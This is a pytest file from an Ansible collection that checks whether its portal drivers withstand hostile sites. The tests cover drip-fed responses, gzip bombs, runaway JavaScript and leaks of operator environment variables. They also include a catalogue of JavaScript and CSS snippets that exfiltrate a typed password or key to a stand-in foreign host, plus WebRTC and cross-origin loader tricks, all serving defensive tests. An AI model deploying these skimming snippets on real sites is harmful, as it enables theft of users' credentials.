# Copyright (c) 2026, labops.cloudresearch contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What a portal can do to those who visit it: keep them waiting, fill their memory, give them work."""

from __future__ import annotations

import contextlib
import gzip
import os
import pathlib
import re
import resource
import shutil
import socket
import subprocess
import tempfile
import time
from collections.abc import Callable, Iterator

import pytest

from ansible_collections.labops.cloudresearch.plugins.plugin_utils.base.errors import CollectionError
from ansible_collections.labops.cloudresearch.plugins.plugin_utils.portal.drivers.base import Deadline, Errand
from ansible_collections.labops.cloudresearch.plugins.plugin_utils.portal.drivers.browser_start import RunningBrowser
from ansible_collections.labops.cloudresearch.plugins.plugin_utils.portal.drivers.browser_window import (
    BrowserWindow,
    nothing,
)
from ansible_collections.labops.cloudresearch.plugins.plugin_utils.portal.drivers.settings import PortalSettings
from ansible_collections.labops.cloudresearch.plugins.plugin_utils.portal.drivers.snapshots import BLOT
from ansible_collections.labops.cloudresearch.plugins.plugin_utils.portal.link import account_link
from ansible_collections.labops.cloudresearch.plugins.plugin_utils.portal.page.matching import plain
from tests.simulator.portal.serving import Certificates
from tests.stack.portal_site import CHROMIUM, KEY, PASSWORD, SECRET
from tests.stack.raw_server import Raw, drip
from tests.stack.written_sites import (
    BUTTON,
    FORM,
    HOME,
    LINK_FORM,
    Request,
    Run,
    Site,
    at_once,
    good_site,
    one_site,
    runner,
    running_browser,
)


@pytest.fixture(scope="module")
def chromium() -> Iterator[RunningBrowser]:
    """The whole browser, with all that it may want to send by itself."""
    with running_browser(CHROMIUM) as running:
        yield running


HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"

DRIPS = {
    "status line": (b"HTTP/1.1 200 O", b"K"),
    "header": (HEAD, b"x"),
    "headers": (HEAD, b"X-More: x\r\n"),
    "body": (HEAD + b"Content-Length: 5000000\r\n\r\n<p>", b"x"),
    "chunks": (HEAD + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n"),
    "many interim answers": (b"", b"HTTP/1.1 100 Continue\r\n\r\n"),
}


@pytest.mark.parametrize("driver", ["http", "browser"])
def test_an_answer_in_drips_ends_at_the_time_limit(
    driver: str,
    raw: Callable[[Callable[[socket.socket], None]], Raw],
    tmp_path: pathlib.Path,
    request: pytest.FixtureRequest,
) -> None:
    browser = request.getfixturevalue("chromium") if driver == "browser" else None

    def visit(name: str) -> tuple[str, float]:
        site = raw(lambda connection: drip(connection, *DRIPS[name]))
        start = time.monotonic()
        with pytest.raises(CollectionError) as caught:
            runner(driver, tmp_path / name, browser)(site, timeout=4)
        return caught.value.reason, time.monotonic() - start

    for name, (reason, seconds) in at_once(DRIPS, visit).items():
        assert reason in ("timeout", "portal_unavailable"), name
        assert seconds < 15, name


def test_a_small_answer_that_unpacks_without_end_is_not_read(sites: tuple[Site, Site], over_http: Run) -> None:
    own, _foreign = sites
    inner = gzip.compress(b"\0" * 200_000_000)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for encoding, body in (
        ("gzip", inner),
        ("gzip, gzip", gzip.compress(inner)),
        ("gzip,gzip,gzip", gzip.compress(gzip.compress(inner))),
        ("deflate", b"x"),
        ("br", b"x"),
        ("zstd", b"x"),
    ):
        own.answers["/"] = (200, {"Content-Encoding": encoding}, body)
        with pytest.raises(CollectionError) as caught:
            over_http(own)
        assert caught.value.reason == "page_changed"
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000
    assert all(request.headers["Accept-Encoding"] == "gzip" for request in own.requests)


def test_a_page_of_the_usual_encoding_is_read(sites: tuple[Site, Site], over_http: Run) -> None:
    own, _foreign = sites
    own.answers["/"] = (200, {"Content-Encoding": "gzip"}, gzip.compress("<h1>Grüße</h1>".encode()))
    with pytest.raises(CollectionError, match="Grüße"):
        over_http(own)


def test_a_page_without_end_is_not_read(sites: tuple[Site, Site], over_http: Run) -> None:
    own, _foreign = sites
    own.answers["/"] = "<p>x</p>" * 600_000
    with pytest.raises(CollectionError) as caught:
        over_http(own)
    assert caught.value.reason == "page_changed"
    assert "larger than" in caught.value.message


def test_the_size_of_a_chunk_without_end_is_not_read(
    raw: Callable[[Callable[[socket.socket], None]], Raw], over_http: Run
) -> None:
    """urllib3 2.6.0 would read it into memory until the time is over."""

    def serve(connection: socket.socket) -> None:
        connection.sendall(HEAD + b"Transfer-Encoding: chunked\r\n\r\n")
        while True:
            connection.sendall(b"0" * 1_000_000)

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(CollectionError) as caught:
        over_http(raw(serve), timeout=4)
    assert caught.value.reason in ("portal_unavailable", "timeout")
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000


def descendants() -> dict[int, bytes]:
    """The environments of all processes below this one that have not ended, by their numbers."""
    found: dict[int, bytes] = {os.getpid(): b""}
    for _generation in range(6):
        for entry in pathlib.Path("/proc").iterdir():
            if not entry.name.isdigit() or int(entry.name) in found:
                continue
            with contextlib.suppress(OSError):
                state, parent = (entry / "stat").read_text().rpartition(")")[2].split()[:2]
                if state != "Z" and int(parent) in found:
                    found[int(entry.name)] = (entry / "environ").read_bytes()
    del found[os.getpid()]
    return found


BUSY = {
    "at once": "<h1>Hello</h1><script>while (true) {}</script>",
    "a moment later": "<h1>Hello</h1><script>setTimeout(() => { while (true) {} }, 300)</script>",
    "when it is looked at": "<h1>Hello</h1><script>Object.defineProperty(document, 'title', "
    "{ get() { while (true) {} } })</script>",
    "with alerts": "<h1>Hello</h1><script>setInterval(() => alert('hello'), 10)</script>",
    "for ever new": "<h1>Hello</h1><script>setInterval(() => fetch('/'), 20)</script>",
    "from page to page": "<script>location.replace('/?' + Math.random())</script>",
}


def test_a_page_that_never_rests_ends_at_the_time_limit(tmp_path: pathlib.Path, chromium: RunningBrowser) -> None:
    def visit(name: str) -> tuple[str, float]:
        with one_site() as own:
            own.answers["/"] = BUSY[name]
            start = time.monotonic()
            with pytest.raises(CollectionError) as caught:
                runner("browser", tmp_path / name, chromium)(own, timeout=4)
            return caught.value.reason, time.monotonic() - start

    for name, (reason, seconds) in at_once(BUSY, visit).items():
        assert reason in ("timeout", "page_changed"), name
        # The time limit, and closing the window.
        assert seconds < 20, name


def test_a_busy_page_does_not_outlive_its_visit(sites: tuple[Site, Site], tmp_path: pathlib.Path) -> None:
    own, _foreign = sites
    own.answers["/"] = BUSY["at once"]
    before = set(descendants())
    start = time.monotonic()
    with pytest.raises(CollectionError) as caught:
        runner("browser", tmp_path)(own, timeout=6)
    assert caught.value.reason == "timeout"
    assert time.monotonic() - start < 25
    while set(descendants()) - before and time.monotonic() - start < 40:
        time.sleep(0.1)
    assert not set(descendants()) - before


def test_the_browser_gets_nothing_of_the_operators_environment(
    sites: tuple[Site, Site], tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    own, _foreign = sites
    for name in (
        "AWS_SECRET_ACCESS_KEY",
        "AWS_PROFILE",
        "VAULT_TOKEN",
        "BAO_TOKEN",
        "ANSIBLE_VAULT_PASSWORD_FILE",
        "X",
    ):
        monkeypatch.setenv(name, "of-the-operator")
    seen: list[bytes] = []

    def look(_request: Request) -> str:
        seen.extend(descendants().values())
        return "<h1>Hello</h1>"

    own.answers["/"] = look
    with pytest.raises(CollectionError):
        runner("browser", tmp_path)(own)
    assert len(seen) >= 2
    assert b"of-the-operator" not in b"".join(seen)
    assert os.environ["VAULT_TOKEN"] == "of-the-operator"


def test_no_browser_without_its_sandbox_unless_the_operator_says_so(
    sites: tuple[Site, Site], tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    own, _foreign = sites
    own.answers["/"] = "<div id=app></div><script src=/app.js></script>"
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    with pytest.raises(CollectionError, match="sandbox") as caught:
        runner("browser", tmp_path)(own, allow_unsandboxed_browser=False)
    assert "allow_unsandboxed_browser" in caught.value.next_step
    assert own.requests == []
    with pytest.raises(CollectionError, match="sign-in form") as caught:
        runner("auto", tmp_path)(own, allow_unsandboxed_browser=False)
    assert caught.value.reason == "page_changed"
    assert "allow_unsandboxed_browser" in caught.value.next_step


# An ordinary user, who owns nothing here.
NOBODY = 65534
AS_NOBODY = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups"]


def chromium_of_an_ordinary_user(home: pathlib.Path) -> str:
    """The browser to start; for root, a program that starts it as another user, with a home of its own."""
    user = AS_NOBODY if os.geteuid() == 0 else []
    if any(not shutil.which(program) for program in ("setpriv", "unshare")):
        pytest.skip("util-linux is needed to try it")
    if subprocess.run([*user, "unshare", "--user", "true"], check=False, capture_output=True).returncode:
        pytest.skip("ordinary users may not make user namespaces here, which the sandbox needs")
    if not user:
        return CHROMIUM
    os.chown(home, NOBODY, NOBODY)
    program = home / "chromium"
    program.write_text(
        "#!/bin/sh\n"
        # Playwright has made the profile's directory for its own user.
        f'for word; do case "$word" in --user-data-dir=*) chown -R {NOBODY} "${{word#*=}}";; esac; done\n'
        f'export HOME={home}\nexec {" ".join(user)} {CHROMIUM} "$@"\n'
    )
    program.chmod(0o755)
    return str(program)


def test_the_sandbox_is_on_for_an_ordinary_user(
    sites: tuple[Site, Site], tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As the kernel tells it of the processes that draw pages while the driver visits a portal."""
    own, _foreign = sites
    good_site(own)
    seen: list[tuple[str, dict[str, str], list[str]]] = []
    here = namespaces("self")
    # The browser of other tests may run already, and has no sandbox.
    before = set(descendants())

    def look(_request: Request) -> str:
        for number in set(descendants()) - before:
            with contextlib.suppress(OSError):
                command = pathlib.Path(f"/proc/{number}/cmdline").read_text().replace("\0", " ")
                status = pathlib.Path(f"/proc/{number}/status").read_text()
                facts = {name: value.strip() for name, value in (line.split(":", 1) for line in status.splitlines())}
                shared = [name for name, place in namespaces(str(number)).items() if place == here[name]]
                seen.append((command, facts, shared))
        return HOME

    own.answers["/home"] = look
    with tempfile.TemporaryDirectory() as home:
        program = chromium_of_an_ordinary_user(pathlib.Path(home))
        if os.geteuid() == 0:
            monkeypatch.setattr(os, "geteuid", lambda: NOBODY)
        run = runner("browser", tmp_path)
        result = run(own, browser_executable=program, allow_unsandboxed_browser=False, timeout=60)
    assert result.link.status == "linked"
    assert not any("--no-sandbox" in command for command, _facts, _shared in seen)
    drawing = [(facts, shared) for command, facts, shared in seen if "--type=renderer" in command]
    assert drawing
    for facts, shared in drawing:
        assert "0" not in facts["Uid"].split()
        assert (facts["Seccomp"], facts["NoNewPrivs"], shared) == ("2", "1", [])


def namespaces(process: str) -> dict[str, str]:
    """The namespaces of a process that its sandbox replaces: its view of processes and of the network."""
    return {name: os.readlink(f"/proc/{process}/ns/{name}") for name in ("pid", "net")}


# How a script of a third party could carry away what was typed; the value is in none of the known spellings. All of
# these leave the window where it is, so one page can try them all.
TAKEN = "Array.from(document.querySelector('[name=p]').value).reverse().join('')"
WAYS = {
    "an image": "new Image().src = '{url}?' + {taken}",
    "a script": "const s = document.createElement('script'); s.src = '{url}?' + {taken}; document.head.append(s)",
    "a style sheet": "const s = document.createElement('link'); s.rel = 'stylesheet'; s.href = '{url}?' + {taken}; "
    "document.head.append(s)",
    "a beacon": "navigator.sendBeacon('{url}', {taken})",
    "a beacon at the end": "const v = {taken}; addEventListener('pagehide', () => navigator.sendBeacon('{url}', v))",
    "a fetch that outlives the page": "const v = {taken}; addEventListener('pagehide', () => fetch('{url}?' + v, "
    "{{keepalive: true, mode: 'no-cors'}}))",
    "a WebSocket": "const w = new WebSocket('{ws}?' + {taken}); w.onopen = () => w.send({taken})",
    "a server's events": "new EventSource('{url}?' + {taken})",
    "a frame": "const f = document.createElement('iframe'); f.src = '{url}?' + {taken}; document.body.append(f)",
    "prefetching": "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '{url}?' + {taken}; "
    "document.head.append(l)",
    "a connection": "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = '{url}'; "
    "document.head.append(l)",
    "a worker": "const v = {taken}; new Worker(URL.createObjectURL(new Blob(['fetch(\\'{url}?' + v + '\\', "
    "{{mode: \\'no-cors\\'}})'])))",
    "a shared worker": "const v = {taken}; new SharedWorker(URL.createObjectURL(new Blob(['fetch(\\'{url}?' + v + "
    "'\\', {{mode: \\'no-cors\\'}})'])))",
    "a socket of a shared worker": "const v = {taken}; new SharedWorker(URL.createObjectURL(new Blob(["
    "'new WebSocket(\\'{ws}?' + v + '\\')'])))",
    "a redirect of the site's own": "fetch('/away?' + {taken}, {{mode: 'no-cors'}})",
    "a style sheet of a style sheet": "const s = document.createElement('style'); s.textContent = '@import \"{url}?' + "
    "{taken} + '\"'; document.head.append(s)",
    "a font": "new FontFace('x', 'url({url}?' + {taken} + ')').load().catch(() => 0)",
    "a font's preloading": "const l = document.createElement('link'); l.rel = 'preload'; l.as = 'font'; "
    "l.crossOrigin = ''; l.href = '{url}?' + {taken}; document.head.append(l)",
    "a document in the page": "const f = document.createElement('iframe'); f.srcdoc = '<meta http-equiv=refresh "
    "content=\"0;url={url}?' + {taken} + '\">'; document.body.append(f)",
    "a form in a frame": "const f = document.createElement('iframe'); f.name = 'inner'; document.body.append(f); "
    "const g = document.createElement('form'); g.method = 'post'; g.target = 'inner'; g.action = '{url}'; "
    "g.innerHTML = '<input name=x>'; g.x.value = {taken}; document.body.append(g); g.submit()",
    "rules for what comes next": "const s = document.createElement('script'); s.type = 'speculationrules'; "
    "const urls = ['{url}?' + {taken}], rule = [{{source: 'list', urls, eagerness: 'immediate'}}]; "
    "s.textContent = JSON.stringify({{prefetch: rule, prerender: rule}}); document.head.append(s)",
    "a ping": "const a = document.createElement('a'); a.href = '#'; a.ping = '{url}?' + {taken}; "
    "document.body.append(a); a.click()",
}
LEAVING = {
    "a window": "window.open('{url}?' + {taken})",
    "another page": "location.href = '{url}?' + {taken}",
}


def page_that_tries(ways: dict[str, str], own: Site, foreign: Site) -> None:
    """Let the sign-in form of a site try these ways to another one as soon as the password is typed."""
    good_site(own)
    scripts = []
    for way, script in ways.items():
        there = f"{foreign.url}/{re.sub('[^a-z]+', '-', way.lower())}"
        foreign.answers[there.removeprefix(foreign.url)] = "x"
        if "/away" in script:
            own.answers["/away"] = (302, {"Location": there}, "")
        scripts.append(script.format(url=there, ws=there.replace("http", "ws"), taken=TAKEN))
    take = " ".join(f"{{ {script} }}" for script in scripts)
    own.answers["/"] = (
        f"<title>Log in</title><script>function take() {{ {take} }}</script>"
        "<form method=post action=/login><label>Email<input name=e></label>"
        '<label>Password<input type=password name=p oninput="take()"></label><button>Log in</button></form>'
    )


@pytest.mark.parametrize("ways", [WAYS, *({way: script} for way, script in LEAVING.items())], ids=["staying", *LEAVING])
def test_nothing_leaves_a_page_with_a_secret_for_another_host(
    ways: dict[str, str], sites: tuple[Site, Site], in_browser: Run
) -> None:
    own, foreign = sites
    page_that_tries(ways, own, foreign)
    reason = ""
    try:
        in_browser(own, timeout=60)
    except CollectionError as exc:
        reason = exc.reason
    # Where the window stays, the visit goes on to its end: each way had its time.
    assert reason in (("",) if ways is WAYS else ("", "page_changed", "portal_unavailable"))
    assert own.saw("/"), "nobody came"
    assert ([request.path for request in foreign.requests], foreign.connections) == ([], 0)


@pytest.fixture
def datagrams() -> Iterator[socket.socket]:
    """A socket for UDP on the address of the host that is not trusted."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listening:
        listening.bind(("127.0.0.2", 0))
        listening.setblocking(False)
        yield listening


def arrived(listening: socket.socket) -> list[bytes]:
    found: list[bytes] = []
    with contextlib.suppress(BlockingIOError):
        while True:
            found.append(listening.recv(2000))
    return found


# Gathers candidates from servers at an address until there are no more. With what WebRTC may not ask, that is at once.
CALL = """
where => new Promise(done => {
  const call = new RTCPeerConnection({iceServers: [{urls: `stun:${where}`}, ...['udp', 'tcp'].map(transport => (
    {urls: `turn:${where}?transport=${transport}`, username: 'u', credential: 'c'}))]});
  const found = [];
  call.onicecandidate = event => event.candidate ? found.push(event.candidate.candidate) : done(found);
  call.createDataChannel('data');
  call.createOffer().then(offer => call.setLocalDescription(offer));
})
"""


def test_no_packet_of_a_call_goes_around_the_gate(
    sites: tuple[Site, Site], in_browser: Run, datagrams: socket.socket
) -> None:
    """Neither from a document nor from one inside it, whose scripts nobody asked to be left alone."""
    own, foreign = sites
    good_site(own)
    udp = f"127.0.0.2:{datagrams.getsockname()[1]}"
    tcp = foreign.url.removeprefix("http://")
    form = own.answers["/"]
    own.answers["/"] = (
        f"<title>Hello</title><body><script>const call = {CALL};"
        "const inner = document.createElement('iframe'); document.body.append(inner);"
        "const calls = [call, inner.contentWindow.eval('(' + call + ')')];"
        f"const all = calls.flatMap(call => [call('{udp}'), call('{tcp}')]);"
        f"new WebTransport('https://{udp}/x').ready.catch(error => error).finally(() => Promise.allSettled(all).then("
        f"() => {{ document.body.innerHTML = {form!r} }}))</script>"
    )
    assert in_browser(own).link.status == "linked"
    assert (arrived(datagrams), foreign.connections) == ([], 0)


def test_the_launch_arguments_alone_keep_packets_of_a_call_in(
    chromium: RunningBrowser, datagrams: socket.socket
) -> None:
    async def gather() -> list[str]:
        context = await chromium.browser.new_context()
        try:
            tab = await context.new_page()
            found: list[str] = await tab.evaluate(CALL, f"127.0.0.2:{datagrams.getsockname()[1]}")
            return found
        finally:
            await context.close()

    assert chromium.loop.run(gather(), 60) == []
    assert arrived(datagrams) == []


def test_pages_after_the_one_with_the_secret_get_what_draws_them(sites: tuple[Site, Site], in_browser: Run) -> None:
    own, foreign = sites
    good_site(own)
    foreign.answers["/menu.js"] = (
        200,
        {"Content-Type": "text/javascript"},
        "document.body.innerHTML = '<a href=/link>Link Mechanical Turk</a>'",
    )
    own.answers["/home"] = f"<title>Home</title><body><script src={foreign.url}/menu.js></script>"
    assert in_browser(own).link.status == "linked"


def test_a_host_that_may_draw_later_pages_gets_nothing_of_the_key(sites: tuple[Site, Site], in_browser: Run) -> None:
    """Its script runs in the page with the key's form, and shared workers are nothing that a window's guard sees."""
    own, foreign = sites
    good_site(own)
    taken = "Array.from(event.target.value).reverse().join('')"
    there = {"url": f"{foreign.url}/taken", "ws": f"{foreign.url}/taken".replace("http", "ws"), "taken": taken}
    ways = [WAYS[way].format(**there) for way in ("a WebSocket", "a shared worker", "a script", "an image")]
    tries = " ".join(f"{{ {way} }}" for way in ways)
    script = f"addEventListener('input', event => {{ if (event.target.name === 's') {{ {tries} }} }})"
    foreign.answers["/menu.js"] = (200, {"Content-Type": "text/javascript"}, script)
    own.answers["/link"] = lambda request: (
        f"<script src={foreign.url}/menu.js></script>{LINK_FORM}"
        + ("<p role=status>Success</p>" if request.method == "POST" else "")
    )
    assert in_browser(own).link.status == "linked"
    assert {request.path for request in foreign.requests} == {"/menu.js"}


@pytest.mark.parametrize("escaped", [False, True])
def test_a_style_sheet_of_a_page_that_repeats_the_key_tells_nothing_of_it(
    escaped: bool, sites: tuple[Site, Site], in_browser: Run
) -> None:
    """As pages do that show a form again as it was filled in; a font for each beginning would tell the key."""
    own, foreign = sites
    good_site(own)
    shown = "".join(f"&#{ord(sign)};" for sign in SECRET) if escaped else SECRET
    font = f"@font-face {{ font-family: told; src: url('{foreign.url}/begins-with-{SECRET[:3]}') }}"
    style = f"{font} input[value^='{SECRET[:3]}'] {{ font-family: told }}"
    foreign.answers["/look.css"] = (200, {"Content-Type": "text/css"}, style)
    sheet = f"<link rel=stylesheet href={foreign.url}/look.css>"
    filled = LINK_FORM.replace("name=s", f"name=s value='{shown}'") + "<p role=status>Success</p>"
    own.answers["/home"] = sheet + HOME
    own.answers["/link"] = lambda request: sheet + (filled if request.method == "POST" else LINK_FORM)
    assert in_browser(own).link.status == "linked"
    assert {request.path for request in foreign.requests} == {"/look.css"}


def test_a_secret_is_typed_into_documents_of_trusted_hosts_only(
    sites: tuple[Site, Site], chromium: RunningBrowser, tmp_path: pathlib.Path
) -> None:
    """Whatever was known of the page when it was read."""
    own, foreign = sites
    foreign.answers["/"] = "<input name=p oninput=\"document.title = 'typed'\">"
    settings = PortalSettings.from_params({"portal_url": own.url, "state_dir": str(tmp_path)})
    window = BrowserWindow(Errand(settings, Deadline(30)))

    async def type_into_another() -> str:
        await window.open(chromium.browser, ())
        try:
            page = await window.act(lambda: window.goto(foreign.url), "looking")
            field = page.forms[0].fields[0]
            with pytest.raises(CollectionError, match="wants the password sent to another site"):
                await window.fill(field.ref, PASSWORD, "password")
            return (await window.act(nothing, "looking")).title
        finally:
            assert window.context is not None
            await window.context.close()
            await window.gate.stop()

    assert chromium.loop.run(type_into_another(), 60) == ""


REPEATED = {
    "title": "<title>{}</title><p>x</p>",
    "heading": "<h1>{}</h1>",
    "controls": "<form method=post action=/x><label>{0}<input name=q></label><button>{0}</button></form>",
    "link": "<a href='/x'>Back to {}</a>",
    "notice": "<p role=alert>Wrong: {}</p>",
    "refusal": "<p role=alert>Invalid password: {}</p>" + FORM.format("method=post action=/login", BUTTON),
}


@pytest.mark.parametrize("password", [PASSWORD, "Correct  horse  battery", "\ufb01nal-\uff30ass-77"])
def test_what_a_page_repeats_of_a_secret_is_told_by_nobody(
    password: str, sites: tuple[Site, Site], tmp_path: pathlib.Path
) -> None:
    own, _foreign = sites
    shown = plain(password).casefold()
    for place, page in REPEATED.items():
        good_site(own)
        own.answers["/login"] = page.format(password)
        options = {"portal_url": own.url, "driver": "http", "state_dir": str(tmp_path / place)}
        with pytest.raises(CollectionError) as caught:
            account_link.ensure_present(
                PortalSettings.from_params(options),
                account_link.PortalAccount("pi@uni.example", password),
                account_link.KnownKey(KEY, SECRET),
            )
        told = plain(repr(caught.value.as_result())).casefold()
        assert BLOT in told and shown not in told, place
        assert shown not in plain(str(caught.value)).casefold()


def test_of_what_is_long_no_more_is_told_than_anybody_reads(sites: tuple[Site, Site], over_http: Run) -> None:
    """The whole fleet's results are in the memory of one process, and in one report."""
    own, _foreign = sites
    long = "long " * 100_000
    own.answers["/"] = f"<title>{long}</title><h1>{long}</h1><button>{long}</button>"
    with pytest.raises(CollectionError) as caught:
        over_http(own)
    assert "long long" in caught.value.message
    assert len(repr(caught.value.as_result())) < 50_000


def test_what_a_page_repeats_of_the_key_is_told_by_nobody(sites: tuple[Site, Site], over_http: Run) -> None:
    own, _foreign = sites
    good_site(own)
    own.answers["/link"] = lambda request: (
        LINK_FORM + (f"<p role=status>Success: {PASSWORD} {SECRET}</p>" if request.method == "POST" else "")
    )
    told = repr(over_http(own).link)
    assert "Success" in told and PASSWORD not in told and SECRET not in told


@pytest.mark.parametrize("redirected", [False, True])
def test_a_script_that_saw_a_secret_carries_it_to_no_later_page(
    redirected: bool, sites: tuple[Site, Site], in_browser: Run
) -> None:
    """One that is in all pages of a portal, and is no longer its author's; what it draws is drawn nevertheless."""
    own, foreign = sites
    good_site(own)
    there = {"url": f"{foreign.url}/taken", "ws": f"{foreign.url}/taken".replace("http", "ws"), "taken": "kept"}
    ways = (WAYS[way].format(**there) for way in ("a script", "a shared worker", "a WebSocket"))
    tries = " ".join(f"{{ {way} }}" for way in ways)
    foreign.answers["/menu.js"] = (
        200,
        {"Content-Type": "text/javascript"},
        "addEventListener('input', event => { sessionStorage.kept = [...event.target.value].reverse().join('') });"
        "if (location.pathname === '/home') document.body.innerHTML = '<a href=/link>Link Mechanical Turk</a>';"
        f"const kept = sessionStorage.kept; if (kept) {{ {tries} }}",
    )
    own.answers["/lib.js"] = (302, {"Location": f"{foreign.url}/menu.js"}, "")
    tag = f"<body><script src={'/lib.js' if redirected else f'{foreign.url}/menu.js'}></script>"
    for path in ("/", "/link"):
        answer = own.answers[path]
        own.answers[path] = lambda request, answer=answer: tag + (answer(request) if callable(answer) else answer)
    own.answers["/home"] = f"<title>Home</title>{tag}"
    if redirected:
        # A redirect is not followed there any more, so this menu is not drawn again.
        own.answers["/home"] = HOME
    assert in_browser(own).link.status == "linked"
    assert [request.path for request in foreign.requests] == ["/menu.js"]


# How code of another host comes into a page without a script that the browser fetches.
# A fetch that the portal's own host redirects is not among them: Playwright does not always tell of its second request.
LOADERS = {
    "fetch": "fetch('{url}/lib').then(answer => answer.text()).then(eval)",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.onload = () => eval(x.response); x.open('GET', '{url}/lib'); "
    "x.send()",
    "events": "new EventSource('{url}/events').onmessage = event => eval(event.data)",
}


@pytest.mark.parametrize("loader", LOADERS)
def test_code_that_a_page_loads_by_itself_carries_a_secret_to_no_later_page(
    loader: str, sites: tuple[Site, Site], in_browser: Run
) -> None:
    own, foreign = sites
    good_site(own)
    listens = "addEventListener('input', event => { sessionStorage.kept = [...event.target.value].reverse().join('') })"
    code = {"Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript"}
    foreign.answers["/lib"] = (200, code, listens)
    foreign.answers["/events"] = (200, {**code, "Content-Type": "text/event-stream"}, f"data: {listens}\n\n")
    foreign.answers["/late.js"] = (
        200,
        code,
        f"const s = document.createElement('script'); s.src = '{foreign.url}/taken?' + sessionStorage.kept;"
        "document.head.append(s)",
    )
    own.answers["/"] = f"<script>{LOADERS[loader].format(url=foreign.url)}</script>" + FORM.format(
        "method=post action=/login", BUTTON
    )
    own.answers["/home"] = f"<script src={foreign.url}/late.js></script>{HOME}"
    assert in_browser(own).link.status == "linked"
    assert {request.path for request in foreign.requests} <= {"/lib", "/events"} and foreign.requests


@pytest.mark.parametrize("after", ["/login", "/"])
def test_from_https_to_http_nobody_is_led(run: Run, after: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither before the sign-in nor after it, when a cookie of the session would go along in clear."""
    plain, certificates = Site("127.0.0.1"), Certificates()
    # Whatever the environment trusts, validate_certs is what the operator said last.
    monkeypatch.setenv("REQUESTS_CA_BUNDLE", certificates.ca_file)
    own = Site("127.0.0.1", certificates.context("self_signed", "127.0.0.1"))
    good_site(own)
    good_site(plain)
    away = {"Location": f"{plain.url}/home", "Set-Cookie": "session=open; Path=/"}
    own.answers[after] = (303, away, "")
    try:
        with pytest.raises(CollectionError) as caught:
            run(own, validate_certs=False)
    finally:
        for site in (own, plain):
            site.server.shutdown()
        certificates.close()
    assert caught.value.reason == "page_changed" and "not encrypted" in caught.value.message, caught.value.message
    assert (plain.connections, plain.requests) == (0, [])
